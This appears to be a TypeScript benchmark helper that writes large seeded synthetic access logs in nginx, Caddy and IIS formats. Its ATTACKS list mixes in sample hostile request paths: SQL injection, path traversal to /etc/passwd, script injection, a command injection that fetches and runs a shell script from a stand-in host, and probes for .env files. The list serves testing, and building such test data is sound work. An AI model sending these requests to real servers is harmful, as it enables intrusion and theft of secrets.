import { closeSync, existsSync, mkdirSync, openSync, renameSync, writeSync } from 'node:fs'
import { dirname } from 'node:path'
import { Random } from '../../src/app/sample/random.ts'

const AGENTS = Array.from({ length: 400 }, (_, i) =>
  i % 3 === 0
    ? `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${100 + (i % 43)}.0.${i}.0 Safari/537.36`
    : `Mozilla/5.0 (X11; Linux x86_64; rv:${80 + (i % 64)}.0) Gecko/20100101 Firefox/${80 + (i % 64)}.0`,
)
const ATTACKS = [
  (n: number) => `/item?id=${n}%27%20UNION%20SELECT%20null,version(),${n}--%20-`,
  (n: number) => `/index.php?page=../../../../../../etc/passwd%00&n=${n}`,
  (n: number) => `/search?q=%3Cscript%3Ealert(${n})%3C/script%3E`,
  (n: number) =>
    `/cgi-bin/ping.cgi?host=127.0.0.1;wget\${IFS}http://203.0.113.9/${n}.sh;sh\${IFS}${n}.sh`,
  (n: number) => `/wp-content/plugins/x${n % 50}/readme.txt`,
  (n: number) => `/.env?${n}`,
] as const
const STATUSES = [200, 200, 200, 200, 200, 304, 301, 404, 404, 500] as const

/** What one line of a log tells. */
interface Request {
  readonly source: string
  readonly time: Date
  readonly target: string
  readonly status: number
  readonly bytes: number
  /** '' where there is none. */
  readonly referrer: string
  readonly agent: string
  /** Of no meaning: it differs from line to line. */
  readonly port: number
}

/** How a server writes a request, without line end. */
export type Writer = (request: Request) => string

/** nginx's combined format: about 222 bytes a line. */
const combined: Writer = ({ source, time, target, status, bytes, referrer, agent }) => {
  const [, day = '', month = '', year = '', clock = ''] =
    /^\w+, (\d+) (\w+) (\d+) (\S+)/.exec(time.toUTCString()) ?? []
  return `${source} - - [${day}/${month}/${year}:${clock} +0000] "GET ${target} HTTP/1.1" ${status} ${bytes} "${referrer === '' ? '-' : referrer}" "${agent}"`
}

/** As Caddy writes a request in plain HTTP unless told otherwise (caddyserver.com/docs/logging): about 600 bytes a line. */
export const caddy: Writer = (request) => JSON.stringify(caddyEntry(request))

/** As `caddy`, of a request by TLS with a compressed answer: about 800 bytes a line. */
export const caddyTls: Writer = (request) => {
  const entry = caddyEntry(request)
  const tls = {
    resumed: request.port % 3 === 0,
    version: 772,
    cipher_suite: 4865,
    proto: 'h2',
    server_name: 'www.example.org',
  }
  return JSON.stringify({
    ...entry,
    request: { ...entry.request, proto: 'HTTP/2.0', tls },
    resp_headers: {
      ...entry.resp_headers,
      'Content-Encoding': ['gzip'],
      'Content-Type': ['text/html; charset=utf-8'],
      Vary: ['Accept-Encoding'],
    },
  })
}

function caddyEntry({ source, time, target, status, bytes, referrer, agent, port }: Request) {
  return {
    level: 'info',
    ts: time.getTime() / 1000 + port / 1e5,
    logger: 'http.log.access',
    msg: 'handled request',
    request: {
      remote_ip: source,
      remote_port: String(port),
      client_ip: source,
      proto: 'HTTP/1.1',
      method: 'GET',
      host: 'www.example.org',
      uri: target,
      headers: {
        'User-Agent': [agent],
        Accept: ['*/*'],
        'Accept-Encoding': ['gzip, deflate, br'],
        ...(referrer === '' ? {} : { Referer: [referrer] }),
      },
    },
    bytes_read: 0,
    user_id: '',
    duration: port / 1e7,
    size: bytes,
    status,
    resp_headers: { Server: ['Caddy'] },
  }
}

/** As IIS writes it unless told otherwise, without the header lines: about 260 bytes a line. */
export const iis: Writer = ({ source, time, target, status, referrer, agent, port }) => {
  const [date, clock] = time.toISOString().split('T') as [string, string]
  const [stem = '', query = '-'] = target.split('?')
  return `${date} ${clock.slice(0, 8)} 198.18.0.1 GET ${stem} ${query} 443 - ${source} ${agent.replaceAll(' ', '+')} ${referrer === '' ? '-' : referrer} ${status} 0 0 ${port % 900}`
}

/** The line that IIS begins a log with. */
export const IIS_FIELDS =
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n'

/**
 * A seeded log: 50,000 addresses, a third of the targets distinct, 3 % attacks. Written once; the same requests for the same
 * number of lines, whatever they are written as.
 *
 * @param before what stands before the first line
 */
export function benchLog(path: string, lines: number, write = combined, before = ''): string {
  if (existsSync(path)) return path
  mkdirSync(dirname(path), { recursive: true })
  const random = new Random(1)
  const file = openSync(`${path}.part`, 'w')
  let text = before
  for (let i = 0; i < lines; i++) {
    text += `${write(benchRequest(random, i, lines))}\n`
    if (text.length < 4 << 20) continue
    writeSync(file, text)
    text = ''
  }
  writeSync(file, text)
  closeSync(file)
  renameSync(`${path}.part`, path)
  return path
}

function benchRequest(random: Random, i: number, lines: number): Request {
  const host = random.between(0, 49_999)
  const second = Math.floor((i * 7 * 86_400) / lines)
  const page = random.between(0, 3_000)
  const target = random.chance(0.03)
    ? random.pick(ATTACKS)(random.between(1, 5_000))
    : random.chance(0.33)
      ? `/shop/item-${page}/view?session=${random.between(1, 9_999_999)}`
      : `/shop/category-${page % 40}/item-${page}.html`
  const referrer = random.chance(0.4)
    ? ''
    : `https://www.example.org/shop/category-${page % 40}/${random.between(1, 900)}`
  const agent = AGENTS[Math.floor(random.next() * random.next() * AGENTS.length)] ?? ''
  return {
    source: `198.${18 + (host >> 16)}.${(host >> 8) & 255}.${host & 255}`,
    time: new Date(Date.UTC(2026, 10, 9) + second * 1000),
    target,
    status: random.pick(STATUSES),
    bytes: random.between(150, 90_000),
    referrer,
    agent,
    port: 1024 + ((host * 31 + i * 7919) % 60_000),
  }
}
